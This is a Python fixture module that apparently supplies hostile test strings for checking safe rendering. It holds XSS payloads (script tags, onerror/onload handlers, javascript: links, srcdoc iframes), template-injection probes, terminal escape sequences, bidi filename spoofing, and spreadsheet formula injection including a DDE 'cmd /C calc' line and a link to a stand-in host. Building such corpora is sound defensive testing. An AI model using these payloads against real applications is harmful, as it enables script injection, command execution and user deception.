"""Texts that would run, load, hide or break something where they are taken for more than text."""

from __future__ import annotations

OUTSIDE = "http://evil.invalid"
RUNS = "window.ran=(window.ran||0)+1"

TEXTS = {
    "script": f"<script>{RUNS}</script><script src={OUTSIDE}/a.js></script>",
    "closing": f"</script></style></title></textarea></pre></code><script>{RUNS}</script>",
    "handlers": f"<img src=x onerror='{RUNS}'><body onload={RUNS}><details open ontoggle='{RUNS}'>",
    "attribute": f"\" autofocus onfocus='{RUNS}' x=\"' onmouseover='{RUNS}",
    "svg": f"<svg onload='{RUNS}'><script>{RUNS}</script><image href='{OUTSIDE}/i.png'/></svg></text></desc></svg>",
    "math": f"<math><mtext><table><mglyph><style><img src=x onerror='{RUNS}'>",
    "address": f"javascript:{RUNS}//data:text/html,<script>{RUNS}</script>",
    "anchor": f"<a href='javascript:{RUNS}' id=hostile-link>click</a>[click](javascript:{RUNS})",
    "frame": f"<iframe srcdoc='<script>parent.{RUNS}</script>' src={OUTSIDE}></iframe><object data={OUTSIDE}></object>",
    "form": f"<form action={OUTSIDE}><input autofocus onfocus='{RUNS}'><button id=hostile-button>go</button></form>",
    "base": f"<base href='{OUTSIDE}/'><meta http-equiv=refresh content='0;url={OUTSIDE}'>",
    "sheet": f"<link rel=stylesheet href={OUTSIDE}>",
    "style": f"</style><style>*{{position:fixed;width:9999px;background:url({OUTSIDE}/b.png)}}</style>",
    "cover": f"<div style='position:fixed;inset:0;width:9999px;background:url({OUTSIDE})' id=hostile-cover>cover</div>",
    "htmx": f"<div hx-get='{OUTSIDE}' hx-trigger=load hx-on:load='{RUNS}' data-hx-get='{OUTSIDE}'>htmx</div>",
    "template": "{{ 7 * 7 }}{% for x in ().__class__.__mro__ %}{{ x }}{% endfor %}${7*7}<%= 7*7 %>#{7*7}",
    "comment": f"<!-- --><!--><script>{RUNS}</script>--><![CDATA[<script>{RUNS}</script>]]><?php echo 1 ?>",
    "entity": f"&lt;script&gt;{RUNS}&lt;/script&gt;&#x3c;script&#x3e;&amp;&quot;&copy",
    "bidi": "\u202egnp.exe\u202d\u2066isolated\u2069\u200frtl\u061c",
    "invisible": "a\u200bb\u200cc\u200dd\ufeffe\u00adf\u2060g\U000e0041\u034f",
    "controls": "nul\x00bell\x07back\x08esc\x1b[31mred\x1b]0;title\x07\x1b[2J\x9b5mcsi\x85\u2028\u2029end",
    "surrogates": "\ud83d alone \udfff and \ude00\ud83d reversed",
    "long": "W" * 10_000,
    "combining": "Z" + "\u0301" * 500,
    "wide": "\ufdfd" * 300,
    "formula": '=HYPERLINK("http://evil.invalid","x")\n+1+cmd|\' /C calc\'!A0\n@SUM(1)\n-2+3',
    "newlines": "line\r\n" * 300,
    "json": '{"__proto__": {"ran": 1}, "constructor": {"prototype": {}}}',
}
"""What a text tries -> the text."""

ALL = "\n".join(TEXTS.values())
